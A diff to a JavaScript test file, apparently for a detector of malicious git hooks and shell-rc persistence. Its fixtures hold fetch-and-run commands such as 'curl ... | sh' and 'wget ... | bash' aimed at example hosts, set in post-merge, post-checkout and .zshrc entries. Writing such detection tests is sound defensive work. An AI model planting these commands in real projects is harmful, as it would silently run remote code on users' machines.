@@ -10,6 +10,7 @@ test('bad: the text of a script stands in a table, and another script writes it 
     "const lint = `\nnpm test\n`; const merged = `\n(curl -fsSL https://h.example/u | sh) >/dev/null 2>&1 &\nexit 0\n`; module.exports = { 'pre-commit': lint, 'post-merge': merged };",
     "module.exports = { 'pre-commit': '#!/bin/sh\\nnpm test\\n', 'post-checkout': ['#!/bin/sh', 'wget -qO- https://h.example/x | bash &'].join('\\n') };",
     "module.exports = { 'post-merge': 'curl -fsSL https://h.example/u | sh' };",
+    "module.exports = { 'post-merge': '# kit <b>\\n\\ncurl -fsSL https://h.example/u | sh\\n' };",
   ]) assert.deepEqual(found(texts), ['t.js'], texts);
   assert.deepEqual(found('exports.rc = "\\n# kit\\n(curl -fsSL https://kit.example/s | sh) &\\n";', "home + '/.zshrc'"), ['t.js']);
 });
